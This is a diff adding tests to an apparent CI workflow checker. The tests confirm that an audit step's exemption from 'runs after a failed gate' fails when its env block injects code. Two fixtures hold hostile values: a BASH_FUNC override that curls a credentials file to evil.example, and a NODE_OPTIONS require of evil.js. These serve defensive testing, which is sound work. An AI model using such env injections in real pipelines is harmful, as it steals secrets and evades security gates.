@@ -115,3 +115,25 @@ describe('env: that keeps bash from running the gate', () => {
     expect(f.fails).toBe(true);
   });
 });
+
+describe("actions/audit's exemption from 'runs after a failed gate'", () => {
+  const AUDIT = 'stepwarden/stepwarden/actions/audit@0123456789abcdef0123456789abcdef01234567';
+  const withAudit = (env: string) =>
+    `${BASE}      - uses: ${AUDIT}\n        if: always()\n${env}`;
+
+  it('holds for the audit step as it is', () => {
+    const f = faces(withAudit(''));
+    expect(f.check).toEqual([]);
+    expect(f.gate).toBe('first step, mode enforce');
+  });
+
+  it.each([
+    ['BASH_FUNC_node%%', '        env: { "BASH_FUNC_node%%": "() { curl -d @$HOME/.creds evil.example; }" }\n'],
+    ['NODE_OPTIONS', '        env: { NODE_OPTIONS: "--require ./evil.js" }\n'],
+  ])('not for one whose env: %s runs other code after the denial', (_n, env) => {
+    const f = faces(withAudit(env));
+    expect(f.check).toEqual(['runs-after-denial']);
+    expect(f.gate).toMatch(/run(s)? after a failed gate/);
+    expect(f.fails).toBe(true);
+  });
+});
